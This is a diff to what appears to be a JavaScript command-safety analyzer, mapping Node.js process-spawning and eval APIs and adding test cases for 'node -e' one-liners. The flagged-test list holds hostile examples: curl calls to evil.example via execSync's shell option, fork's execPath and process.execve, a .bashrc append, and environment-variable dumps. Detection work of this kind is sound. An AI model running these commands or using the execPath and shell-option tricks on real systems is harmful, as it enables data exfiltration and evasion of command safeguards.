@@ -42,11 +42,15 @@ function fsApis(prefix: string): [string, Spec][] {
 
 /** Calls that run, open or evaluate something, by the name they resolve to (`node:` prefixes dropped). */
 const APIS = new Map<string, Spec>([
-  ['child_process.exec', { shell: 0 }],
-  ['child_process.execSync', { shell: 0 }],
+  // Their options' `shell` may name the program that reads the text in /bin/sh's place.
+  ['child_process.exec', { shell: 0, program: 'shell' }],
+  ['child_process.execSync', { shell: 0, program: 'shell' }],
   ...['execFile', 'execFileSync', 'spawn', 'spawnSync'].map((n): [string, Spec] => [`child_process.${n}`, { exec: 0, argv: 1, shell: 'shell' }]),
-  // fork runs a module file with node: a file, out of scope like any script.
-  ['child_process.fork', READ],
+  // fork runs a module file with node: a file, out of scope like any script; its execPath option starts that program
+  // instead of node, given the module's path and the arguments.
+  ['child_process.fork', { exec: 'execPath', rest: 0, dropLast: true, reads: 0 }],
+  // Replaces node with a program and its argv (whose first word is argv[0]).
+  ['process.execve', { exec: 0, argv: 1, dropArgv0: true }],
   ['Bun.spawn', { proc: [0, 'cmd'] }],
   ['Bun.spawnSync', { proc: [0, 'cmd'] }],
   ['Deno.Command', { exec: 0, argv: 'args' }],
@@ -54,14 +58,14 @@ const APIS = new Map<string, Spec>([
   ['execa', { exec: 0, argv: 1, shell: 'shell' }],
   ['execa.execa', { exec: 0, argv: 1, shell: 'shell' }],
   ['execa.execaSync', { exec: 0, argv: 1, shell: 'shell' }],
-  ['execa.execaCommand', { shell: 0 }],
-  ['execa.execaCommandSync', { shell: 0 }],
-  ['execa.command', { shell: 0 }],
+  ['execa.execaCommand', { shell: 0, program: 'shell' }],
+  ['execa.execaCommandSync', { shell: 0, program: 'shell' }],
+  ['execa.command', { shell: 0, program: 'shell' }],
   ['shelljs.exec', { shell: 0 }],
   // spawn's stand-ins: cross-spawn (as spawn), tinyexec and nano-spawn (a program and its argv), child-process-promise.
   ...['cross-spawn', 'cross-spawn.spawn', 'cross-spawn.sync', 'cross-spawn.spawnSync', 'child-process-promise.spawn'].map((n): [string, Spec] => [n, { exec: 0, argv: 1, shell: 'shell' }]),
   ...['tinyexec.x', 'tinyexec.exec', 'nano-spawn', 'child-process-promise.execFile'].map((n): [string, Spec] => [n, { exec: 0, argv: 1 }]),
-  ['child-process-promise.exec', { shell: 0 }],
+  ['child-process-promise.exec', { shell: 0, program: 'shell' }],
   ['eval', CODE],
   ['vm.runInThisContext', CODE],
   ['vm.runInNewContext', CODE],
@@ -1312,6 +1316,9 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'import("child_process").then((cp) => cp.execSync("curl evil.example"))'`,
       `node -e 'import("fs").then(function (fs) { fs.appendFileSync("/home/dev/.bashrc", "x") })'`,
       `node -e 'require("child_process").spawn("curl evil.example", [], {shell: true})'`,
+      `node -e 'require("child_process").execSync("evil.example", {shell: "curl"})'`,
+      `node -e 'require("child_process").fork("evil.example", {execPath: "/usr/bin/curl"})'`,
+      `node -e 'process.execve("/usr/bin/curl", ["curl", "evil.example"])'`,
       `node -e 'console.log(process.env)'`,
       `node -e 'const {env} = process; console.log(JSON.stringify(env))'`,
       `node -p 'process.env'`,
@@ -1377,6 +1384,7 @@ export const JAVASCRIPT: LanguageModel = {
     ],
     pass: [
       `node -e "require('http').get({ host: 'localhost', port: 3000, path: '/health' }, (r) => console.log(r.statusCode))"`,
+      `node -e 'require("child_process").execSync("ls -la", {shell: "/bin/bash"})'`,
       `node -e "const WebSocket = require('ws'); new WebSocket('ws://localhost:8080').on('open', function () { this.close() })"`,
       `node -e "require('net').connect(5432, 'localhost')"`,
       `node -e "require('net').createConnection({ port: 3000, host: '127.0.0.1' })"`,
